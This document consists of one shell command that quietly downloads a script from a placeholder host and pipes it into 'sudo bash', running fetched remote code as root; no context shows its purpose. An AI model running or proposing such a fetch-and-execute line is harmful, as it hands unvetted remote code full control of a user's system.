wget -qO- https://example.invalid/x | sudo bash
